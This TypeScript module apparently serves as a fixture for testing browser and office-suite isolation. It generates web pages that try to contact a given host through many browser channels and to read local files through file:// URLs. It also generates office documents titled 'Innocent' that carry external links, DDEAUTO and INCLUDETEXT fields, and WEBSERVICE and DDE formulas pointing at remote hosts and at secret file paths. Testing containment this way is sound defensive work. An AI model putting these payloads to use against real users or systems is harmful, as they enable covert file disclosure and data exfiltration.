// Pages and office files that try to reach what they may not, by every way that a browser and an office suite know.
import { docx, docxPicture, odt, ods, createOutsideLink, xlsx } from './office-files.ts';

/** Paths below the base that a browser asks for when nothing holds it back. */
export const controls = [
  '/img',
  '/css',
  '/script',
  '/frame',
  '/object',
  '/embed',
  '/video',
  '/import',
  '/background',
  '/svg',
  '/fetch',
  '/xhr',
  '/socket',
  '/beacon',
  '/events',
  '/module',
  '/worker',
  '/form',
  '/srcset',
];

export function attackPage(base: string): string {
  const host = new URL(base).host;
  return `<!doctype html><link rel=preconnect href="${base}"><link rel=dns-prefetch href="${base}"><link rel=prefetch href="${base}/prefetch"><link rel=icon href="${base}/icon"><link rel=stylesheet href="${base}/css">
<style>@import "${base}/import"; body { background: url("${base}/background") } @font-face { font-family: x; src: url("${base}/font") } p { font-family: x }</style>
<script src="${base}/script"></script><p>text</p><img src="${base}/img"><img srcset="${base}/srcset 1x"><iframe src="${base}/frame"></iframe><object data="${base}/object"></object><embed src="${base}/embed"><video src="${base}/video"></video>
<svg width=9 height=9><image href="${base}/svg" width=9 height=9 /></svg><iframe name=f></iframe><form id=form method=post target=f action="${base}/form"></form>
<script>
const attempt = (way) => { try { Promise.resolve(way()).catch(() => 0) } catch {} };
attempt(() => fetch("${base}/fetch", { mode: "no-cors" }));
attempt(() => { const x = new XMLHttpRequest(); x.open("GET", "${base}/xhr"); x.send() });
attempt(() => new WebSocket("${base.replace('http', 'ws')}/socket"));
attempt(() => navigator.sendBeacon("${base}/beacon", "x"));
attempt(() => new EventSource("${base}/events"));
attempt(() => import("${base}/module"));
attempt(() => new Worker(URL.createObjectURL(new Blob(['importScripts("${base}/worker")']))));
attempt(() => form.submit());
attempt(() => open("${base}/window"));
attempt(() => new WebTransport("https://${host}/transport"));
attempt(async () => {
  const peer = new RTCPeerConnection({ iceServers: [{ urls: "stun:${host}" }, { urls: "turn:${host}?transport=tcp", username: "u", credential: "p" }, { urls: "turn:${host}?transport=udp", username: "u", credential: "p" }] });
  peer.createDataChannel("x");
  await peer.setLocalDescription(await peer.createOffer());
  const sdp = peer.localDescription.sdp.replace("a=setup:actpass", "a=setup:active").replace(/a=candidate.*\\r\\n/g, "");
  await peer.setRemoteDescription({ type: "answer", sdp: sdp.replace(/a=ice-ufrag:.*/, "a=ice-ufrag:abcd").replace(/a=ice-pwd:.*/, "a=ice-pwd:abcdefghijklmnopqrstuvwx") });
  for (const kind of ["udp 2122260223 ${formatAddress(host)} typ host", "tcp 1518280447 ${formatAddress(host)} typ host tcptype passive"]) await peer.addIceCandidate({ candidate: "candidate:1 1 " + kind, sdpMLineIndex: 0 });
});
</script>`;
}

/** Address and port as candidates of WebRTC have them. */
function formatAddress(host: string): string {
  const { hostname, port } = new URL(`http://${host}`);
  return `${hostname.replace(/^\[|\]$/g, '')} ${port}`;
}

/** Pages that would show a file. */
export function fileAttacks(files: readonly string[]): string[] {
  const urls = files.map((file) => `file://${file}`);
  const all = (make: (url: string) => string): string => urls.map(make).join('');
  return [
    all(
      (url) =>
        `<iframe src="${url}" width=800 height=600></iframe><object data="${url}" type="text/plain" width=800 height=600></object><embed src="${url}" type="text/plain"><iframe src="view-source:${url}"></iframe>`,
    ),
    `<base href="file:///">${files.map((file) => `<iframe src=".${file}" width=800 height=600></iframe><link rel=import href="${file}">`).join('')}`,
    `<script>${all((url) => `fetch("${url}").then((r) => r.text()).then((t) => document.body.append(t)); { const x = new XMLHttpRequest(); x.onload = () => document.body.append(x.responseText); x.open("GET", "${url}"); x.send() }`)}</script>`,
    ...urls.map((url) => `<script>location = "${url}"</script>`),
    `<meta http-equiv=refresh content="0;url=${urls[0] ?? ''}">`,
  ];
}

export interface AttackFile {
  readonly mediaType: string;
  readonly bytes: Uint8Array | string;
}

/** Office files that say Innocent, and link to each base and to files of the machine. */
export async function attackFiles(
  bases: readonly string[],
  secrets: readonly string[],
): Promise<Record<string, AttackFile>> {
  const remote = bases.map((base) => `${base}/linked`);
  const targets = [...remote, ...secrets.map((secret) => `file://${secret}`)];
  const all = (make: (target: string, index: number) => string): string => targets.map(make).join('');
  const binary = (bytes: Uint8Array | string): AttackFile => ({ mediaType: 'application/octet-stream', bytes });
  const field = (code: string): string =>
    `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> ${code} </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`;
  return {
    'attack-pictures.docx': binary(
      await docx('Innocent', {
        body: all((_target, index) => docxPicture(`p${index}`)),
        links: all((target, index) => createOutsideLink(`p${index}`, 'image', target)),
      }),
    ),
    'attack-parts.docx': binary(
      await docx('Innocent', {
        body: all((_target, index) => `<w:altChunk r:id="c${index}"/>`),
        links: all(
          (target, index) =>
            createOutsideLink(`c${index}`, 'aFChunk', target) +
            createOutsideLink(`t${index}`, 'attachedTemplate', target) +
            createOutsideLink(`s${index}`, 'subDocument', target),
        ),
      }),
    ),
    'attack-fields.docx': binary(
      await docx('Innocent', {
        body: all(
          (target) =>
            field(`INCLUDETEXT "${target}"`) +
            field(`INCLUDEPICTURE "${target}"`) +
            field(`DDEAUTO soffice "${target}" x`),
        ),
      }),
    ),
    'attack-pictures.odt': binary(
      await odt(
        'Innocent',
        all(
          (target) =>
            `<text:p><draw:frame svg:width="5cm" svg:height="5cm"><draw:image xlink:href="${target}" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/></draw:frame></text:p>`,
        ),
      ),
    ),
    'attack-sections.odt': binary(
      await odt(
        'Innocent',
        all(
          (target, index) =>
            `<text:section text:name="s${index}"><text:section-source xlink:href="${target}" text:filter-name="Text"/><text:p/></text:section><text:p><draw:frame svg:width="9cm" svg:height="9cm"><draw:floating-frame xlink:href="${target}"/></draw:frame><draw:frame svg:width="9cm" svg:height="9cm"><draw:object xlink:href="${target}"/></draw:frame></text:p>`,
        ),
      ),
    ),
    'attack-formulas.xlsx': binary(
      await xlsx([
        'Innocent',
        ...targets.flatMap((target) => [
          `=WEBSERVICE("${target}")`,
          `=_xlfn.WEBSERVICE("${target}")`,
          `='${target}'#$One.A1`,
          `=HYPERLINK("${target}")`,
        ]),
      ]),
    ),
    'attack-formulas.ods': binary(
      await ods(
        'Innocent',
        ...targets.flatMap((target) => [
          `of:=COM.MICROSOFT.WEBSERVICE("${target}")`,
          `of:='${target}'#[$'One'.A1]`,
          `of:=DDE("soffice";"${target}";"One.A1")`,
        ]),
      ),
    ),
    'attack-formulas.csv': {
      mediaType: 'text/csv',
      bytes: `Innocent\n${all((target) => `"=WEBSERVICE(""${target}"")","='${target}'#$One.A1"\n`)}`,
    },
    'attack-fields.rtf': binary(
      `{\\rtf1 Innocent ${remote.map((target) => `{\\field{\\*\\fldinst INCLUDEPICTURE "${target}" \\\\d}{\\fldrslt }}`).join('')}${all((target) => `{\\field{\\*\\fldinst INCLUDETEXT "${target}"}{\\fldrslt }}`)}}`,
    ),
  };
}
